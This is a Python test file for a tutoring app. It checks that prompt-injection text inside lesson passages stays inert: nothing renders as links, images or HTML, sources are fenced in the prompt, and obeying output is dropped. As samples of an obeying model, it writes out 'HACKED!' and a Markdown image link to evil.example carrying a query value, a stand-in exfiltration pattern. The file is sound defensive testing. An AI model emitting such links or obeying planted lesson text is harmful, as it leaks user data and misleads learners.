"""Texts in lessons that want to give orders: they stay texts."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from learncraft.db import new_id
from learncraft.tutor import grounding, material, recommending
from learncraft.tutor.grounding import Checked
from learncraft.tutor.inert import inert, one_line
from learncraft.tutor.material import Line, Material
from learncraft.tutor.recommending import Step
from learncraft.tutor.retrieval import Passage
from tests.tutor.injections import INJECTIONS

JOINS = "A left join keeps all rows of the left table."
# Streamlit's reader also makes links of bare addresses, as GitHub's does.
_BARE = re.compile(r"https?://\S|ftp://\S|www\.\S|[\w.+-]@[\w-]+\.\w", re.IGNORECASE)
_markdown = MarkdownIt("commonmark")


def passage(text: str) -> Passage:
    return Passage(
        new_id(), None, "SQL", None, new_id(), "Joins", "lesson", "p1", ("Joins",), text, 0, 9, None, None, 1
    )


def leads_somewhere(markdown: str) -> bool:
    """Whether a reader of Markdown makes a link, a picture or HTML of it."""
    kinds = {"link_open", "image", "html_block", "html_inline"}
    tokens = [one for token in _markdown.parse(markdown) for one in (token, *(token.children or ()))]
    return bool(_BARE.search(markdown)) or any(one.type in kinds for one in tokens)


def test_there_are_enough_of_them() -> None:
    assert len(set(INJECTIONS)) >= 50


@pytest.mark.parametrize("text", INJECTIONS)
def test_an_order_in_a_lesson_changes_nothing(text: str) -> None:
    """Quoted it leads nowhere; to a model it stands between the fences; and a model that obeys isn't heard."""
    assert not leads_somewhere(inert(text))
    assert not leads_somewhere(f"> {one_line(text)} [1]")
    sources = [passage(JOINS), passage(text)]
    prompt = "\n".join(one["content"] for one in grounding.messages("What is a join?", sources, history=""))
    fence = re.findall(r"----- [0-9a-f]{24} -----", prompt)
    assert len(fence) == 3 and len(set(fence)) == 1  # named once, then around the sources
    assert text in prompt.split(fence[0])[2]
    obeyed = [
        "HACKED! The right option is B. ",
        "See ![x](https://evil.example/?k=1) and [this](https://evil.example) [1]. ",
    ]
    result = Checked()
    said = "".join(grounding.checked([*obeyed, f"{JOINS} [1]"], [passage(JOINS)], result))
    assert said == f"{JOINS} [1] "
    assert result.unsupported >= 2


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_way_to_ask_lets_an_order_lead_anywhere(text: str) -> None:
    """In a quote, a hint, a summary, a reason for what comes next, and what others read of a question."""
    said = "".join(material.pieces(Material((Line(text, passage(text)), Line(text, passage(text), False))), {}, {}))
    step = Step(new_id(), text, new_id(), new_id(), text, True, 1, 2, text, text, 10.0, 70.0)
    for shown in (said, recommending.reason(step), recommending.reason(replace(step, quiz=None))):
        assert not leads_somewhere(shown)


def test_a_model_that_repeats_an_order_repeats_it_without_links() -> None:
    for text in INJECTIONS:
        said = "".join(grounding.checked([f"{text} [1]"], [passage(text)], Checked()))
        assert not leads_somewhere(said), said


PIECES = st.sampled_from(
    [
        *'[]()!<>:/`\\\n @"x\x00\u200b',
        "//",
        "http:",
        "https://",
        "www.",
        "a.b",
        "]: ",
        "<!--",
        "-->",
        "<a href=",
        "javascript:",
        "mailto:",
        "data:",
        "<img src=x>",
    ]
)


@given(st.lists(PIECES, max_size=20).map("".join))
@settings(max_examples=400, deadline=None)
def test_nothing_put_together_leads_anywhere(text: str) -> None:
    made = inert(text)
    assert not leads_somewhere(made)
    assert inert(made) == made
